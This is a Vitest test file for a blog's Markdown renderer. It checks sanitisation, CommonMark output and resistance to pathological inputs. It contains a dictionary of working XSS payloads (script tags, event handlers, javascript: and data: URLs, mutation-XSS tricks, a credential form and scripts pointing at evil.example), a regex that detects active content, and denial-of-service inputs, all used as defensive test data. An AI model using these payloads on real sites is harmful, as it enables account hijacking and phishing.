import { describe, expect, test } from "vitest";
import { renderMarkdown } from "../../../subgraphs/hub/blog/markdown/render-markdown.ts";

const html = (markdown: string) => renderMarkdown(markdown).html;

/** What no post may contain, wherever its tags and attributes end. */
const active =
  /<(?:script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|video|audio|template|noscript)\b|<[^>]*\s(?:on\w+|style|srcset|srcdoc|formaction|id|name)\s*=|(?:href|src)\s*=\s*["']?\s*(?:javascript|vbscript|data|file|blob):/i;

const hostile: Record<string, string> = {
  script: "<script>alert(1)</script>",
  "a script in a paragraph": "Hi <script src=//evil.example/x.js></script> there",
  "an unclosed script": "<script>alert(1)",
  "a script within a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "an event handler": '<p onclick="alert(1)">x</p>',
  "an event handler after a slash": "<img/onerror=alert(1) src=x>",
  "an event handler in capital letters": "<B ONMOUSEOVER=alert(1)>x</B>",
  "a link to javascript": "[x](javascript:alert(1))",
  "a link to javascript in entities": "[x](&#106;avascript&colon;alert(1))",
  "a link to javascript with a tab": '<a href="java\tscript:alert(1)">x</a>',
  "a link to javascript with a control": '<a href="\u0001javascript:alert(1)">x</a>',
  "a link to vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
  "a link to data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "a reference to javascript": "[x]\n\n[x]: javascript:alert(1)",
  "an automatic link to javascript": "<javascript:alert(1)>",
  "an image of data": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "an image of another site": "![x](https://evil.example/pixel.png)",
  "an image tag of another site": '<img src="https://evil.example/pixel.png" srcset="//evil.example/2 2x">',
  "an image of the path of files with more": '<img src="/blogs/files/file_01/../../auth/logout">',
  "a picture in a title": '![x](file:file_01 "a\\"onerror=alert(1)")',
  "an iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "a form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  "a style": "<style>*{background:url(//evil.example)}</style>",
  "a style attribute": '<div style="position:fixed;inset:0">x</div>',
  "a base": '<base href="https://evil.example/">',
  "a refresh": '<meta http-equiv="refresh" content="0;url=//evil.example">',
  "an SVG": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "MathML that mutates":
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "a comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
  CDATA: "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "a template": "<template><script>alert(1)</script></template>",
  "a noscript that mutates": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "an element of a name that clobbers": '<a id="location" name="cookie" href="https://example.com">x</a>',
  "a fence of a hostile language": '```"><script>alert(1)</script>\nx\n```',
  "a fence of a class": "```ts onload=alert(1)\nconst a = '<script>';\n```",
  "a heading": "# <img src=x onerror=alert(1)>",
  "a table": "|<script>alert(1)</script>|b|\n|-|-|\n|[x](javascript:alert(1))|<i onclick=x>|",
  "a null character": "<scr\0ipt>alert(1)</scr\0ipt>",
};

describe("hostile Markdown", () => {
  test.each(Object.entries(hostile))("%s runs and loads nothing", (_name, markdown) => {
    expect(html(markdown)).not.toMatch(active);
    expect(html(`> - ${markdown.replaceAll("\n", "\n>   ")}`)).not.toMatch(active);
  });

  test("the pattern of these checks finds what it is about", () => {
    const raw = Object.entries(hostile).filter(([, text]) => active.test(text.replaceAll("\0", "")));
    expect(raw.length).toBeGreaterThan(20);
    expect(html("A [link](https://example.com) and `onclick=1`.")).not.toMatch(active);
  });

  test("only files of the platform are images", () => {
    const text = '![A view](file:file_01abc "Spring") ![x](https://evil.example/x.png) ![y](/auth/logout)';
    const { html: shown, imageIds } = renderMarkdown(text);
    expect(imageIds).toEqual(["file_01abc"]);
    expect(shown).toContain(
      '<img src="/blogs/files/file_01abc" alt="A view" title="Spring" loading="lazy" />',
    );
    expect(shown.match(/<img/g)).toHaveLength(1);
  });
});

describe("CommonMark", () => {
  test("is rendered with tables, strikethrough and harmless HTML", () => {
    const text = "# One\n\n*a* **b** ~~c~~ `d` <kbd>e</kbd>\n\n1. x\n2. y\n\n| h |\n|---|\n| v |\n";
    expect(html(text)).toBe(
      "<h2>One</h2>\n<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code> <kbd>e</kbd></p>\n" +
        "<ol>\n<li>x</li>\n<li>y</li>\n</ol>\n" +
        "<table>\n<thead>\n<tr>\n<th>h</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>v</td>\n</tr>\n</tbody>\n</table>\n",
    );
  });

  test("code is highlighted by classes alone", () => {
    expect(html("```ts\nconst a = '<';\n```")).toBe(
      '<pre><code class="language-ts"><span class="tok-keyword">const</span> ' +
        '<span class="tok-definition">a</span> <span class="tok-operator">=</span> ' +
        '<span class="tok-string">\'&lt;\'</span><span class="tok-punctuation">;</span>\n</code></pre>\n',
    );
    expect(html("```cobol\nMOVE <A>\n```")).toBe(
      '<pre><code class="language-cobol">MOVE &lt;A&gt;\n</code></pre>\n',
    );
  });

  test("the excerpt has the first words without headings, marks and code", () => {
    const { excerpt } = renderMarkdown(
      "# Title\n\nA **bold** & [linked](https://x.example) start.\n\n```\ncode\n```\nEnd <b>5 < 6</b>",
    );
    expect(excerpt).toBe("A bold & linked start. End 5 < 6");
    const long = renderMarkdown("word ".repeat(200)).excerpt;
    expect([long.length <= 280, long.endsWith("word…")]).toEqual([true, true]);
  });
});

/** Text of the greatest length that repeats a piece. */
const fill = (piece: string, length = 100_000) =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
const fenced = (language: string, piece: string) =>
  Array.from({ length: 5 }, () => `\`\`\`${language}\n${fill(piece, 18_000)}\n\`\`\`\n`).join("");

const expensive: Record<string, string> = {
  quotes: fill(">"),
  "quotes with spaces": fill("> "),
  "nested lists": Array.from({ length: 440 }, (_, depth) => `${" ".repeat(depth)}* a`).join("\n"),
  "open emphasis": fill("*a "),
  "mixed emphasis": fill("*a**b "),
  "emphasis that closes": `${"*".repeat(50_000)}a${"*".repeat(49_000)}`,
  brackets: fill("["),
  "open links": fill("[a]("),
  "open images": fill("![a]("),
  "link targets": fill("[a](<b"),
  backticks: Array.from({ length: 440 }, (_, count) => "`".repeat(count + 1)).join("a"),
  "open tags": fill("<a "),
  elements: fill("<div>"),
  comments: fill("x<!-- "),
  "table cells": `${"|a".repeat(2_000)}\n${"|-".repeat(2_000)}\n${fill("|a", 80_000)}`,
  "references to a long address": `[a]: ${"u".repeat(40_000)}\n\n${fill("[a] ", 50_000)}`,
  spaces: `a${" ".repeat(99_000)}b`,
  "code in TypeScript": fenced("ts", "a<"),
  "code in JavaScript": fenced("jsx", "<a"),
  "code in Python": fenced("py", "f'{"),
  "code in CSS": fenced("css", "a{"),
  "code in Go": fenced("go", "func("),
  "code in JSON": fenced("json", "[{"),
};

describe("an expensive text", () => {
  test.each(Object.entries(expensive))("%s takes bounded time and space", (_name, markdown) => {
    const before = process.cpuUsage();
    const length = lengthOf(markdown);
    const { user, system } = process.cpuUsage(before);
    // Quadratic time would be minutes.
    expect((user + system) / 1_000).toBeLessThan(5_000);
    expect(length).toBeLessThanOrEqual(1_000_000);
  });

  test("is refused where its HTML would be many times as long", () => {
    const text = expensive["references to a long address"]!;
    expect(() => renderMarkdown(text)).toThrow("must not become longer");
  });
});

function lengthOf(markdown: string): number {
  try {
    return renderMarkdown(markdown).html.length;
  } catch (error) {
    if (String(error).includes("must not become longer")) return 0;
    throw error;
  }
}
